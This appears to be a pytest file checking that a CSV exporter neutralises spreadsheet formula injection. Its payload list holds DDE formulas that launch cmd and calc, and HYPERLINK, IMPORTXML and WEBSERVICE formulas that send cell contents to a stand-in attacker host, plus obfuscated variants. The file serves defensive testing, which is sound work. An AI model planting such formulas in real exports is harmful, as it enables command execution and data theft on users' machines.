"""Text in CSV is shown by spreadsheets and never run."""

import csv
import io

import openpyxl
import pytest

from moodtrace.spreadsheets import to_csv

PAYLOADS = (
    "=1+1",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example?",A1),"//a")',
    '=WEBSERVICE("http://evil.example")',
    '=IMAGE("http://evil.example/x.png")',
    '=DDE("cmd";"/c calc";"x")',
    "=2+5+cmd|' /C calc'!A0",
    "=SUM(1+1)*cmd|' /C calc'!A0",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "+1+1",
    "+cmd|'/c calc'!A0",
    "+A1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-A1",
    "--1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "|calc",
    "%0A=1+1",
    "\t=1+1",
    "\tplain",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "\N{FULLWIDTH COMMERCIAL AT}SUM(1)",
)


def cells(written: bytes) -> list[str]:
    text = written.decode()
    return [line[0] for line in csv.reader(io.StringIO(text, newline=""))][1:]


def test_thirty_formulas_all_become_text() -> None:
    written = to_csv(["label"], [{"label": payload} for payload in PAYLOADS])

    assert len(PAYLOADS) == 30
    assert [cell[0] for cell in cells(written)] == ["'"] * 30


@pytest.mark.parametrize("payload", [p for p in PAYLOADS if "\x00" not in p])
def test_a_spreadsheet_holds_text_where_the_formula_was(payload: str) -> None:
    sheet = openpyxl.Workbook().active
    assert sheet is not None
    for cell in cells(to_csv(["label"], [{"label": payload}])):
        sheet.append([cell])

    assert sheet["A1"].data_type == "s"


def test_numbers_and_numbers_in_words_stay_as_they_are() -> None:
    record = {"a": -0.3, "b": 7, "c": "-0.3", "d": "2", "e": None, "f": "a-b", "g": ""}

    assert to_csv(list(record), [record]) == b"a,b,c,d,e,f,g\n-0.3,7,-0.3,2,,a-b,\n"


def test_lines_and_quotes_in_text_do_not_break_the_line() -> None:
    label = 'a "b", c\nd'

    assert cells(to_csv(["label"], [{"label": label}])) == [label]
